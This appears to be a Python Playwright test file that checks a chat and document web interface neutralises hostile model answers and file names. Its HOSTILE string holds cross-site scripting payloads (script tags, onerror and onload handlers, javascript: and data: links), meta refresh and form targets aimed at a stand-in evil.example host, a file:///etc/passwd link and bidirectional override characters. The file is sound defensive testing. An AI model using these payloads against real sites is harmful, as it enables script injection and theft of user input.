"""What a model or a file writes is text: no script, image, style, foreign address or mark of direction in it has an effect.

The test itself is the worker: it claims a job and ends it with the answer.
"""

import time
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from shared.jobs.models import Status
from shared.jobs.transitions import Event, JobTransitions
from shared.redis_connection import connect
from shared.settings import Settings
from testing.stack import Stack
from tests.browser.actions import add_documents, ask, fits

HACK = "window.hacked=1"
HOSTILE = f"""# <img src=x onerror="{HACK}">

<script>{HACK}</script><iframe srcdoc="<script>parent.{HACK}</script>"></iframe><svg onload="{HACK}"><style>*{{display:none}}</style>
<meta http-equiv="refresh" content="0;url=http://evil.example/"><form action="http://evil.example/"><input name=key></form>
<base href="http://evil.example/"><link rel=stylesheet href="http://evil.example/x.css">

[script](javascript:{HACK}) [data](data:text/html,<script>{HACK}</script>) [blob](blob:http://evil.example/1) [file](file:///etc/passwd)
[entity](java&#115;cript:{HACK}) [space](<java script:{HACK}>) [ref][evil] <javascript:{HACK}> ![p](http://evil.example/p.png)
![d](data:image/svg+xml,<svg onload="{HACK}">) [good](https://example.com/) [mail](mailto:a@example.com)

[evil]: javascript:{HACK} "<b onclick={HACK}>"

| <img src=x onerror="{HACK}"> | \u202egnisrever |
|---|---|
| `<script>{HACK}</script>` | \u2066\u202ehtap |

```html"><script>{HACK}</script>
<script>{HACK}</script>
```

$\\href{{javascript:{HACK}}}{{x}} \\includegraphics{{http://evil.example/m.png}}$
"""
ONE_LINE = "<b>" * 350_000


# Words of the page that stand in one line after a mark of direction in a text of others, which would turn them round.
TURNED_ROUND = """() => {
  const found = [], walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (!/[\\u202a-\\u202e\\u2066-\\u2068]/.test(node.data) || node.parentElement.closest(".prose, .page-text, pre, textarea")) continue;
    let box = node.parentElement;
    const style = () => getComputedStyle(box);
    while (style().display === "inline" && !/isolate|plaintext/.test(style().unicodeBidi)) box = box.parentElement;
    const range = document.createRange();
    range.setStartAfter(node);
    range.setEndAfter(box.lastChild);
    if (range.toString().trim()) found.push(box.outerHTML.slice(0, 200));
  }
  return found;
}"""


class Writer:
    """A worker that writes what the test wants."""

    def __init__(self, stack: Stack) -> None:
        self._transitions = JobTransitions(connect(stack.redis_url()), Settings(), lambda queue, count: None)

    def answer(self, text: str) -> None:
        """End the next job of the default model with this answer."""
        token = str(time.monotonic_ns())
        job = self._transitions.claim("gpu.echo", "writer@test/1", token)
        assert job is not None
        lease = (job.id, job.attempt)
        delta = Event(job=job.id, attempt=job.attempt, index=1, type="delta", data={"text": text})
        usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
        result: dict[str, Any] = {"text": text, "finish_reason": "stop", "usage": usage}
        messages = ({"role": "user", "content": job.id}, {"role": "assistant", "content": text})
        assert self._transitions.finish(lease, Status.COMPLETED, result=result, last=delta, messages=messages) == "ok"


def assert_harmless(page: Page) -> None:
    """The foreign requests and errors of the page are checked when the test ends."""
    assert page.evaluate("() => window.hacked") is None
    # Icons are the only pictures, and the page has neither frames nor forms of others.
    foreign = "main :is(img, script, iframe, style, meta, base, link, object, embed, form[action], input[name=key], [onerror], [onload])"
    assert page.locator(foreign).count() == 0
    links = page.locator("main a").evaluate_all("(links) => links.map((link) => link.href)")
    assert [link for link in links if not link.startswith(("http://", "https://", "mailto:"))] == []
    assert page.evaluate(TURNED_ROUND) == []
    assert fits(page)


def test_hostile_answers_do_nothing(page: Page, stack: Stack) -> None:
    writer = Writer(stack)
    page.goto("/")
    page.get_by_label("Model").select_option("echo")
    with stack.drained("gpu"):
        turn = ask(page, HOSTILE)
        expect(turn).to_have_attribute("data-state", "queued")
        writer.answer(HOSTILE)
        expect(turn).to_have_attribute("data-state", "completed")
    expect(turn.locator(".prose")).to_contain_text("<iframe srcdoc=")
    hrefs = turn.locator(".prose a").evaluate_all("(links) => links.map((link) => link.getAttribute('href'))")
    assert set(hrefs) == {"https://example.com/", "mailto:a@example.com", "http://evil.example/p.png"}
    assert_harmless(page)
    page.reload()
    expect(page.locator(".question")).to_be_visible()
    assert_harmless(page)
    job = stack.client.get("/jobs?limit=1").json()["data"][0]["id"]
    for tab in ("", "?tab=events", "?tab=json"):
        page.goto(f"/ui/jobs/{job}{tab}")
        expect(page.locator("#job-status")).to_have_text("Completed")
        assert_harmless(page)
    page.goto("/ui/jobs")
    expect(page.locator(f"[data-job={job}]")).to_be_visible()
    assert_harmless(page)


def test_hostile_documents_do_nothing(page: Page, stack: Stack) -> None:
    name = f'<img src=x onerror="{HACK}"> \u202efdp.txt'
    add_documents(stack, "hostile", **{name.replace(".", "_"): f"The lighthouse is green. {HOSTILE}"})
    for path in ("/ui/documents/hostile", "/ui/documents/hostile?q=lighthouse"):
        page.goto(path)
        expect(page.get_by_text("onerror").first).to_be_visible()
        assert_harmless(page)
    page.locator(".hit").first.click()
    expect(page.get_by_role("complementary", name="Details")).to_contain_text("The lighthouse is green.")
    assert_harmless(page)


@pytest.mark.parametrize("context_options", [{"viewport": {"width": 320, "height": 740}}], ids=["320"])
def test_a_line_of_a_megabyte_is_shown_and_the_page_goes_on(page: Page, stack: Stack) -> None:
    writer = Writer(stack)
    page.goto("/")
    page.get_by_label("Model").select_option("echo")
    with stack.drained("gpu"):
        turn = ask(page, "A long line, please.")
        expect(turn).to_have_attribute("data-state", "queued")
        writer.answer(ONE_LINE)
        expect(turn).to_have_attribute("data-state", "completed")
    expect(turn).to_contain_text("<b><b><b>")
    page.get_by_label("Message", exact=True).fill("Next")
    expect(page.get_by_label("Message", exact=True)).to_have_value("Next")
    assert_harmless(page)
    job = stack.client.get("/jobs?limit=1").json()["data"][0]["id"]
    page.goto(f"/ui/jobs/{job}")
    expect(page.locator("#job-status")).to_have_text("Completed")
    assert_harmless(page)
